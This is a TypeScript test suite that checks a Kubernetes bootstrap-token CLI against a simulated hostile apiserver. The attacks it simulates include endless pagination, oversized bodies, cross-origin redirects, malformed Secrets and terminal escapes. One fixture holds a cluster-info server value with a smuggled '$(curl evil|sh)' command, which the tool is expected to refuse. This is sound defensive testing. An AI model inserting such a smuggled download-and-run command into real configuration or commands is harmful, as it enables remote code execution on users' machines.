// The kube transport, the kubeadm adapter and the command line against a hostile apiserver
// (in-process, over loopback): a `continue` that never ends, Retry-After of a day, answers over
// the size cap, redirects to another origin, lists and Secrets off their types, a watch line that
// never ends, a cluster-info that would put shell syntax into the join command, escapes in data.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createKubeClient } from '../../src/kube/client.ts';
import { isTokenTuiError } from '../../src/core/errors.ts';
import { bootstrapSecret, runTokentui } from '../cli/harness.ts';
import { removeScratch } from '../support/at-rest.ts';
import { HOSTILE_SAMPLES, RAW_CONTROL_BUT_NEWLINE } from '../support/hostile-text.ts';
import { sendJson, startHostileServer, streamForever, type HostileRequest, type HostileServer } from '../support/hostile-server.ts';

const MIB = 1024 * 1024;
const SECRETS = '/api/v1/namespaces/kube-system/secrets';
let apiserver: HostileServer;
let elsewhere: HostileServer;
let dir: string;

beforeAll(async () => {
  apiserver = await startHostileServer();
  elsewhere = await startHostileServer((_request, response) => sendJson(response, 200, { kind: 'SecretList', items: [], metadata: {} }));
  dir = mkdtempSync(join(tmpdir(), 'tokentui-hostile-kube-'));
  writeFileSync(
    join(dir, 'config'),
    `apiVersion: v1\nkind: Config\nclusters:\n- name: h\n  cluster:\n    server: ${apiserver.url}\nusers:\n- name: u\n  user:\n    token: hostile-suite-token\ncontexts:\n- name: h\n  context:\n    cluster: h\n    user: u\ncurrent-context: h\n`,
  );
});
afterAll(async () => {
  await apiserver.close();
  await elsewhere.close();
  removeScratch(dir);
});
afterEach(() => {
  apiserver.requests.length = 0;
  elsewhere.requests.length = 0;
});

const env = (extra: Record<string, string> = {}) => ({ HOME: dir, KUBECONFIG: join(dir, 'config'), XDG_STATE_HOME: dir, XDG_CONFIG_HOME: dir, ...extra });
const cli = (args: readonly string[], extra: Record<string, string> = {}) => runTokentui(args, { env: env(extra) });
const lists = () => apiserver.requests.filter((request) => request.path === SECRETS);

function secretList(items: unknown[], metadata: Record<string, unknown> = {}) {
  return { kind: 'SecretList', apiVersion: 'v1', metadata: { resourceVersion: '7', ...metadata }, items };
}

function status(code: number, message: string, reason = 'ServiceUnavailable') {
  return { kind: 'Status', apiVersion: 'v1', status: 'Failure', message, reason, code };
}

function onList(answer: (request: HostileRequest, response: Parameters<Parameters<HostileServer['handle']>[0]>[1]) => void | Promise<void>) {
  apiserver.handle((request, response) => (request.path === SECRETS && request.method === 'GET' ? answer(request, response) : sendJson(response, 404, status(404, 'not found', 'NotFound'))));
}

describe('a list that would never end', () => {
  it('a repeated continue token stops at once with a clear error', async () => {
    onList((_request, response) => sendJson(response, 200, secretList([], { continue: 'again' })));
    const run = await cli(['list']);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/answered the list of .*secrets with a `continue` token it had already sent \(page 2\); the list would never end/);
    expect(lists()).toHaveLength(2);
  });

  it('a new continue token every time stops after 1,000 pages', async () => {
    let page = 0;
    onList((_request, response) => sendJson(response, 200, secretList([], { continue: `page-${(page += 1)}` })));
    const run = await cli(['list']);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/with more than 1000 pages; stopped/);
    expect(lists()).toHaveLength(1000);
  }, 60_000);
});

describe('Retry-After', () => {
  it('longer than 10 s: list fails at once with the apiserver words, exit 1, no retry', async () => {
    onList((_request, response) => sendJson(response, 503, status(503, 'etcd is defragmenting'), { 'retry-after': '99999' }));
    const started = Date.now();
    const run = await cli(['list']);
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/etcd is defragmenting \(the server asks to retry after 99999 s; tokentui waits at most 10 s\)/);
    expect(lists()).toHaveLength(1);
  });
});

describe('response size', () => {
  it('a declared 100 MiB answer is refused before its body is read', async () => {
    onList(async (_request, response) => {
      response.writeHead(200, { 'content-type': 'application/json', 'content-length': String(100 * MIB) });
      await streamForever(response, Buffer.alloc(64 * 1024, 0x20), 100 * MIB);
    });
    const run = await cli(['list']);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/answered GET \/api\/v1\/namespaces\/kube-system\/secrets with 100 MiB \(Content-Length\), over the 32 MiB limit; refused/);
    expect(run.stderr).toMatch(/^hint: .*TOKENTUI_MAX_RESPONSE_SIZE/m);
  });

  it('an endless body is cut off at the cap (TOKENTUI_MAX_RESPONSE_SIZE) while it streams', async () => {
    onList((_request, response) => streamForever(response, Buffer.from(JSON.stringify(bootstrapSecret('abcdef', '0123456789abcdef')).repeat(50))));
    const run = await cli(['list'], { TOKENTUI_MAX_RESPONSE_SIZE: '2MiB' });
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/with more than 2 MiB, over the 2 MiB limit; refused/);
    const bad = await cli(['list'], { TOKENTUI_MAX_RESPONSE_SIZE: 'lots' });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/TOKENTUI_MAX_RESPONSE_SIZE: "lots" is not a size/);
  });
});

describe('redirects', () => {
  it('to another origin are refused; the bearer token goes nowhere else', async () => {
    onList((_request, response) => void response.writeHead(307, { location: `${elsewhere.url}${SECRETS}` }).end());
    const run = await cli(['list']);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(`redirected GET ${SECRETS} to another origin (${elsewhere.url})`);
    expect(elsewhere.requests).toEqual([]);
  });

  it('within the origin are followed', async () => {
    onList((request, response) => {
      if (request.query.moved === undefined) return void response.writeHead(302, { location: `${SECRETS}?moved=1&fieldSelector=${encodeURIComponent(request.query.fieldSelector ?? '')}` }).end();
      sendJson(response, 200, secretList([bootstrapSecret('abcdef', '0123456789abcdef', { description: 'moved' })]));
    });
    const run = await cli(['list', '-o', 'json']);
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout)).toEqual([expect.objectContaining({ id: 'abcdef', description: 'moved' })]);
  });
});

describe('answers off their types', () => {
  it('a list whose items is not an array fails naming the field; a Status with reason "constructor" is still exit 1', async () => {
    onList((_request, response) => sendJson(response, 200, { kind: 'SecretList', items: 'nope', metadata: {} }));
    const run = await cli(['list']);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('answered the list of /api/v1/namespaces/kube-system/secrets with `items` that is not an array');
    onList((_request, response) => sendJson(response, 418, status(418, 'teapot', 'constructor')));
    const teapot = await cli(['list']);
    expect(teapot.code).toBe(1);
    expect(teapot.stderr).toContain('teapot');
  });

  it('a list with an item that is not an object fails naming it; one that is not JSON quotes none of it', async () => {
    onList((_request, response) => sendJson(response, 200, secretList([bootstrapSecret('abcdef', '0123456789abcdef'), 'abcdef.0123456789abcdef'])));
    const run = await cli(['list', '-o', 'json']);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('answered the list of /api/v1/namespaces/kube-system/secrets with items[1] that is not an object');
    expect(run.stdout).toBe('');
    onList((_request, response) => void response.writeHead(200, { 'content-type': 'application/json' }).end(`${JSON.stringify(secretList([bootstrapSecret('abcdef', '0123456789abcdef')])).slice(0, -30)}`));
    const cut = await cli(['list']);
    expect(cut.code).toBe(1);
    expect(cut.stderr).toMatch(/answered GET \/api\/v1\/namespaces\/kube-system\/secrets with a body that is not JSON/);
    expect(cut.stderr).not.toContain('MDEyMzQ1Njc4OWFiY2RlZg');
  });

  it('Secrets with fields of the wrong type are invalid rows, not a crash', async () => {
    onList((_request, response) =>
      sendJson(response, 200, secretList([
        bootstrapSecret('abcdef', '0123456789abcdef'),
        { metadata: { name: 42, uid: {} }, type: 'bootstrap.kubernetes.io/token', data: 'not a map' },
        { metadata: { name: 'bootstrap-token-ghijkl' }, type: ['x'], data: { 'token-id': 7 } },
      ])),
    );
    const run = await cli(['list', '-o', 'json']);
    expect(run.code).toBe(0);
    const listed = JSON.parse(run.stdout) as { id: string; status: string; invalidReason?: string }[];
    expect(listed.map((token) => token.status)).toEqual(['active', 'invalid', 'invalid']);
    expect(listed[1]?.invalidReason).toContain("the Secret's data is not a map of strings");
  });

  it('escapes in Secret data are shown as visible escapes, in the table and in JSON', async () => {
    onList((_request, response) => sendJson(response, 200, secretList(HOSTILE_SAMPLES.map((sample, index) => bootstrapSecret(`abc${index}de`, '0123456789abcdef', { description: sample })))));
    for (const format of [[], ['-o', 'json'], ['-o', 'yaml']]) {
      const run = await cli(['list', ...format]);
      expect(run.code).toBe(0);
      expect(run.stdout + run.stderr).not.toMatch(RAW_CONTROL_BUT_NEWLINE);
    }
    const table = await cli(['list']);
    expect(table.stdout.trimEnd().split('\n')).toHaveLength(HOSTILE_SAMPLES.length + 1);
    expect(table.stdout).toContain('\\x1b]2;pwned\\x07');
  });
});

describe('a watch line that never ends', () => {
  it('fails the stream at the cap instead of growing without bound', async () => {
    apiserver.handle((_request, response) => streamForever(response, Buffer.alloc(64 * 1024, 0x41)));
    const client = createKubeClient({ contextName: 'h', clusterName: 'h', userName: 'u', server: apiserver.url, insecureSkipTlsVerify: false, auth: { type: 'token', token: 't' }, sourceFile: 'x' }, { maxResponseBytes: MIB });
    try {
      const error = await (async () => {
        for await (const _event of client.stream(SECRETS, { searchParams: { watch: '1' } })) void _event;
      })().then(
        () => undefined,
        (thrown: unknown) => thrown,
      );
      expect(isTokenTuiError(error) && error.message).toMatch(/a line of the watch stream is longer than 1048576 characters; refused/);
    } finally {
      await client.close();
    }
  });
});

describe('the join command', () => {
  it('is refused when cluster-info names a server that is not an https://host:port URL', async () => {
    let stored: Record<string, unknown> | undefined;
    apiserver.handle((request, response) => {
      if (request.method === 'POST' && request.path === SECRETS) {
        stored = { ...(JSON.parse(request.body) as Record<string, unknown>), metadata: { ...(JSON.parse(request.body) as { metadata: object }).metadata, uid: 'u1', resourceVersion: '9' } };
        return sendJson(response, 201, stored);
      }
      if (request.path.endsWith('/configmaps/cluster-info')) {
        const kubeconfig = 'apiVersion: v1\nclusters:\n- cluster:\n    server: "https://10.0.0.1:6443 $(curl evil|sh)"\n    certificate-authority-data: eA==\n';
        return sendJson(response, 200, { kind: 'ConfigMap', metadata: { name: 'cluster-info' }, data: { kubeconfig } });
      }
      sendJson(response, 404, status(404, 'not found', 'NotFound'));
    });
    const run = await cli(['create', '--print-join-command']);
    expect(run.code).toBe(1);
    expect(run.stdout).toBe('');
    expect(run.stderr).toMatch(/kube-public\/cluster-info names the server .* which is not an https:\/\/host:port URL/);
    expect(stored).toBeDefined();
  });
});
